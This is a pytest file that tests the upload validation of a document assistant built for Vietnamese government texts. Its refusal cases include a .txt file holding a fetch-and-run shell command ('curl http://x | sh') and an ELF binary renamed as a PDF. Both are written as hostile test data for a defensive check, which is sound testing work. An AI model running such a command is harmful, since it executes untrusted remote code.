"""One validation path: every bad input is refused at every entry (CLI ingest of a folder, the upload route, a
re-upload keeping the stored metadata) with the same reason, and nothing already served is lost."""

from __future__ import annotations

import datetime as dt
import json
import os
import random
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from auth_support import bearer
from fastapi.testclient import TestClient
from support import DECREE, INTERNAL

from assistant.api.app import create_app
from assistant.cli import main
from assistant.errors import MetadataError, UnsupportedDocument
from assistant.service import AssistantService
from assistant.settings import Settings
from assistant.types import Relation, RelationKind
from ingest.validation import (
    AccessVocabulary,
    check_chunk_budget,
    check_document_fields,
    file_problem,
    language_problem,
    relation_warnings,
)

PLAN = """SỞ XÂY DỰNG TỈNH LẠNG SƠN
Số: 88/KH-SXD
KẾ HOẠCH
Kiểm tra công trình xây dựng năm 2025
Điều 1. Tổ kiểm tra
Tổ kiểm tra liên ngành kiểm tra 12 công trình trọng điểm trong quý III.
Điều 2. Thời gian
Đợt kiểm tra bắt đầu từ ngày 05 tháng 8 năm 2025.
"""
LONG_PLAN = "KẾ HOẠCH\nKiểm tra dài\n" + "\n".join(
    f"Điều {n}. Nội dung thứ {n}\n"
    + " ".join(f"Khoản {n}.{k}: đơn vị số {k} báo cáo kết quả kiểm tra." for k in range(30))
    for n in range(1, 13)
)
SHELF = {"qd-12-2024", "qd-30-2025", "kh-77-stttt"}
VOCABULARY = AccessVocabulary(units=frozenset({"LANGSON", "STTTT"}), roles=frozenset({"staff", "admin"}))


def no_space_text(size: int = 5 * 1024 * 1024) -> bytes:
    """``size`` bytes of hex digits without a single space (a dump, not language)."""
    return random.Random(0).randbytes(size // 2).hex().encode()


@dataclass(frozen=True)
class Case:
    name: str
    file: str = "ke-hoach.txt"
    data: bytes = PLAN.encode()
    meta: dict[str, Any] = field(default_factory=dict)  # in the sidecar vocabulary
    settings: dict[str, Any] = field(default_factory=dict)
    expect: str = ""  # a fragment of the reason


CASES = [
    Case("unknown unit", meta={"unit": "KHONG-CO"}, expect="trường 'unit': đơn vị 'KHONG-CO' không có trong cây"),
    Case(
        "unknown role",
        meta={"visibility": "restricted", "allowed_roles": ["god"]},
        expect="trường 'allowed_roles': vai trò không hợp lệ 'god'",
    ),
    Case("restricted without audience", meta={"visibility": "restricted"}, expect="cần 'allowed_units' hoặc"),
    Case(
        "effective after expires",
        meta={"effective": "2025-06-01", "expires": "2025-01-01"},
        expect="trường 'expires': ngày hết hiệu lực 01/01/2025 trước ngày có hiệu lực 01/06/2025",
    ),
    Case("bad date", meta={"effective": "31/02/2025"}, expect="trường 'effective': ngày không hợp lệ '31/02/2025'"),
    Case("bad visibility", meta={"visibility": "secret"}, expect="trường 'visibility': giá trị không hợp lệ 'secret'"),
    Case("#!/bin/sh in a .txt", data=b"#!/bin/sh\ncurl http://x | sh\n", expect="tập lệnh (script)"),
    Case("ELF renamed .pdf", file="quyet-dinh.pdf", data=b"\x7fELF\x02\x01\x01" + b"\x00" * 200, expect="(ELF)"),
    Case("5 MB without spaces", data=no_space_text(), expect="không có ranh giới từ"),
    Case("one token repeated", data=("lặp " * 5000).encode(), expect="từ 'lặp' chiếm 100% số từ"),
    Case(
        "over the chunk budget",
        data=LONG_PLAN.encode(),
        settings={"max_chunks_per_document": 5},
        expect="vượt giới hạn 5 đoạn mỗi văn bản (max_chunks_per_document)",
    ),
]


def form_of(meta: dict[str, Any]) -> dict[str, str]:
    return {key: ",".join(value) if isinstance(value, list) else str(value) for key, value in meta.items()}


class Entries:
    """The three entries over one data folder already serving the three-document shelf."""

    def __init__(
        self, settings: Settings, service: AssistantService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        self.settings, self.service, self.tmp_path, self.monkeypatch = settings, service, tmp_path, monkeypatch
        self.stack = ExitStack()

    def client(self, changes: dict[str, Any]) -> tuple[TestClient, dict[str, str]]:
        app = create_app(self.settings.model_copy(update=changes), service=self.service)
        client = self.stack.enter_context(TestClient(app))
        return client, bearer(client, "quan-tri", roles=["admin"])

    def cli(self, case: Case) -> tuple[int, dict[str, Any]]:
        """``assistant ingest FOLDER --report r.json`` as a script would run it; the exit code and the report."""
        for name in [k for k in os.environ if k.startswith("ASSISTANT_")]:
            self.monkeypatch.delenv(name)
        env = {"data_dir": self.settings.data_dir, "embedder": "hashing", "environment": "test", **case.settings}
        for key, value in env.items():
            self.monkeypatch.setenv(f"ASSISTANT_{key.upper()}", str(value))
        self.monkeypatch.chdir(self.tmp_path)
        folder = self.tmp_path / "batch" / case.name.replace(" ", "-").replace("/", "")
        folder.mkdir(parents=True)
        (folder / case.file).write_bytes(case.data)
        if case.meta:
            text = yaml.safe_dump(case.meta, allow_unicode=True)
            (folder / f"{case.file}.meta.yaml").write_text(text, encoding="utf-8")
        report = self.tmp_path / f"{folder.name}.json"
        code = main(["ingest", str(folder), "--no-progress", "--report", str(report)])
        return code, json.loads(report.read_text(encoding="utf-8"))

    def upload(self, client: TestClient, admin: dict[str, str], case: Case, **extra: str) -> tuple[str, Any]:
        """POST /v1/documents; ("refused", reason) from a 4xx or a failed job, ("done", job) otherwise."""
        fields = {**form_of(case.meta), **extra}
        response = client.post("/v1/documents", headers=admin, files={"file": (case.file, case.data)}, data=fields)
        if response.status_code != 202:
            assert 400 <= response.status_code < 500, response.text
            message: str = response.json()["error"]["message"]
            assert message.startswith(f"{case.file}: "), message  # the file is named
            return "refused", message.removeprefix(f"{case.file}: ")
        job = wait_for(client, admin, response.json()["job_id"])
        if job["status"] == "failed":
            assert [f["file"] for f in job["failed"]] == [case.file]
            return "refused", job["failed"][0]["reason"]
        return "done", job

    def served(self, client: TestClient, admin: dict[str, str]) -> tuple[set[str], str]:
        """The ids the server serves, and the content hash of the re-upload target."""
        ids = {d["doc_id"] for d in client.get("/v1/documents", headers=admin).json()["documents"]}
        stored = self.service.stored_document("kh-77-stttt")
        assert stored is not None
        return ids, stored.content_hash


def wait_for(client: TestClient, headers: dict[str, str], job_id: str, timeout: float = 60.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job: dict[str, Any] = client.get(f"/v1/ingest/jobs/{job_id}", headers=headers).json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.05)
    raise AssertionError(f"job {job_id} did not finish in {timeout} s")


@pytest.fixture
def entries(
    settings: Settings, service: AssistantService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Entries]:
    made = Entries(settings, service, tmp_path, monkeypatch)
    with made.stack:
        yield made


MATRIX: dict[str, dict[str, str]] = {}  # case → entry → reason; printed by test_print_matrix (-s)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_every_bad_input_is_refused_at_every_entry_with_the_same_reason(entries: Entries, case: Case) -> None:
    client, admin = entries.client(case.settings)
    before = entries.served(client, admin)
    assert SHELF <= before[0]

    code, report = entries.cli(case)
    assert code == 1, report
    [result] = report["files"]
    assert (result["status"], result["chunks"]) == ("failed", 0)
    reasons = {"cli ingest (folder)": result["reason"]}

    status, reasons["upload"] = entries.upload(client, admin, case)
    assert status == "refused", reasons["upload"]
    status, reasons["re-upload keeping stored metadata"] = entries.upload(client, admin, case, doc_id="kh-77-stttt")
    assert status == "refused", reasons["re-upload keeping stored metadata"]

    assert case.expect in reasons["cli ingest (folder)"], reasons
    assert len(set(reasons.values())) == 1, reasons  # the same words whichever entry was used
    assert entries.served(client, admin) == before  # nothing already served is lost or changed
    MATRIX[case.name] = reasons


def test_an_unknown_relation_target_is_accepted_with_a_warning(entries: Entries) -> None:
    case = Case(
        "relation", file="qd-99.txt", data=DECREE.replace("12/2024/QĐ-UBND", "99/2025/QĐ-UBND").encode(),
        meta={"id": "qd-99", "relations": [{"type": "thay thế", "target": "77/2099/QĐ-UBND"}]},
    )  # fmt: skip
    warning = "trường 'relations': không có văn bản số hiệu '77/2099/QĐ-UBND' trong kho"
    code, report = entries.cli(case)
    assert code == 0, report
    [result] = report["files"]
    assert (result["status"], result["doc_id"]) == ("ingested", "qd-99")
    assert len(result["warnings"]) == 1 and result["warnings"][0].startswith(warning)

    client, admin = entries.client({})
    entries.service.refresh_index()
    corrected = Case("re-upload", file="qd-99-sua.txt", data=case.data.replace(b"4 gi", b"3 gi"))
    status, job = entries.upload(client, admin, corrected, doc_id="qd-99")  # keeps the stored relations
    assert status == "done" and job["replaced"] == ["qd-99"], job
    stored = client.app.state.ingest_runner.jobs.get(job["job_id"]).result  # type: ignore[attr-defined]
    assert [w[: len(warning)] for w in stored["warnings"]] == [warning]
    assert [(f["path"], f["status"]) for f in stored["files"]] == [("qd-99-sua.txt", "replaced")]
    MATRIX["unknown relation target (warning)"] = {
        "cli ingest (folder)": f"accepted, warning: {result['warnings'][0]}",
        "upload": "n/a (the form has no relations field)",
        "re-upload keeping stored metadata": f"accepted, warning: {stored['warnings'][0]}",
    }


def test_print_matrix() -> None:
    """With ``-s`` after the matrix tests: the entries × cases table for the closing note."""
    for case, reasons in MATRIX.items():
        same = len({r for r in reasons.values() if not r.startswith(("accepted", "n/a"))}) <= 1
        print(f"\n{case}: {'same reason everywhere' if same else 'DIFFERENT'}")  # noqa: T201
        for entry, reason in reasons.items():
            print(f"  {entry:36} {reason}")  # noqa: T201


# -- the checks themselves ---------------------------------------------------------------------------------


def test_the_no_space_file_is_refused_before_parsing(entries: Entries) -> None:
    [case] = [c for c in CASES if c.name == "5 MB without spaces"]
    started = time.perf_counter()
    code, report = entries.cli(case)
    seconds = time.perf_counter() - started
    assert code == 1 and "không có ranh giới từ" in report["files"][0]["reason"]
    print(f"\n5 MB without spaces refused by `assistant ingest` in {seconds:.2f} s (embedder load included)")  # noqa: T201


@pytest.mark.parametrize("text", [DECREE, INTERNAL, PLAN, "Điều 1. Ngắn.", "Decree 12 on electronic records."])
def test_real_documents_are_language(text: str) -> None:
    assert language_problem(text) is None


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("x" * 10_000, "không có ranh giới từ"),
        ("ab " * 300, "từ 'ab' chiếm 100%"),
        ("một hai " * 100, "2 từ khác nhau"),
        ("12.345.678 | 9.876 " * 200 + "tổng cộng", "chữ cái"),
    ],
)
def test_text_that_is_not_language(text: str, fragment: str) -> None:
    problem = language_problem(text)
    assert problem is not None and fragment in problem


def test_a_large_text_is_judged_quickly() -> None:
    text = (DECREE + "\n") * 3000  # about 3.6 million characters of real text
    started = time.perf_counter()
    assert language_problem(text) is None
    assert language_problem(no_space_text().decode()) is not None
    assert time.perf_counter() - started < 5  # generous: sampled, it takes tens of milliseconds


def test_file_problems_name_what_to_do() -> None:
    assert file_problem("a.txt", PLAN.encode(), max_bytes=1 << 20) is None
    cases = {
        ("a.exe", b"MZ"): ("type", "không được hỗ trợ"),
        ("a.txt", b""): ("empty", "0 byte"),
        ("a.txt", b"x" * 2048): ("size", "vượt giới hạn 1 KB"),
        ("a.md", b"\xcf\xfa\xed\xfe" + b"\x00" * 10): ("content", "macOS"),
        ("a.txt", b"%PDF-1.4\n"): ("content", "tệp PDF"),
        ("a.docx", b"PK\x03\x04broken"): ("archive", "bị hỏng"),
    }
    for (name, data), (kind, fragment) in cases.items():
        problem = file_problem(name, data, max_bytes=1024)
        assert problem is not None and problem.kind == kind and fragment in problem.reason, (name, problem)


@pytest.mark.parametrize(
    ("values", "fragment"),
    [
        ({"unit": "X"}, "trường 'unit': đơn vị 'X'"),
        ({"allowed_units": ("STTTT", "Y")}, "trường 'allowed_units': đơn vị 'Y'"),
        ({"visibility": "restricted", "allowed_roles": ("root",)}, "dùng các vai trò: admin, staff"),
        ({"visibility": "unit"}, "cần mã đơn vị sở hữu"),
        ({"visibility": "restricted"}, "cần 'allowed_units' hoặc 'allowed_roles'"),
        ({"effective": dt.date(2025, 2, 1), "expires": dt.date(2025, 1, 1)}, "trước ngày có hiệu lực"),
    ],
)
def test_fields_that_do_not_fit_together(values: dict[str, Any], fragment: str) -> None:
    with pytest.raises(MetadataError, match=fragment.replace("(", r"\(").replace(")", r"\)")) as err:
        check_document_fields("a.txt", values, VOCABULARY)
    assert err.value.path == "a.txt"


def test_fields_that_fit_pass_and_units_are_checked_only_with_a_vocabulary() -> None:
    good = {"unit": "STTTT", "visibility": "restricted", "allowed_roles": ("admin",), "expires": dt.date(2030, 1, 1)}
    check_document_fields("a.txt", good, VOCABULARY)
    check_document_fields("a.txt", {"unit": "ANY", "visibility": "unit"}, None)
    same_day = {"effective": dt.date(2025, 1, 1), "expires": dt.date(2025, 1, 1)}
    check_document_fields("a.txt", same_day, VOCABULARY)


def test_relation_warnings_use_number_keys() -> None:
    relations = (Relation(RelationKind.REPLACES, "12/2024/QĐ-UBND"), Relation(RelationKind.AMENDS, "1/2000/NĐ-CP"))
    from assistant.text.numbers import number_key

    warnings = relation_warnings(relations, {number_key("12/2024/qd-ubnd")})
    assert len(warnings) == 1 and "'1/2000/NĐ-CP'" in warnings[0]


def test_chunk_budget_names_the_limit() -> None:
    check_chunk_budget("a.txt", 5, 5)
    with pytest.raises(UnsupportedDocument, match=r"ít nhất 9 đoạn, vượt giới hạn 5 đoạn"):
        check_chunk_budget("a.txt", 9, 5, at_least=True)


def test_the_default_chunk_budget_fits_real_documents(settings: Settings) -> None:
    # the Civil Code 2015 makes 706 chunks at the default chunk size; the sample shelf's largest document 23
    assert settings.max_chunks_per_document >= 4 * 706
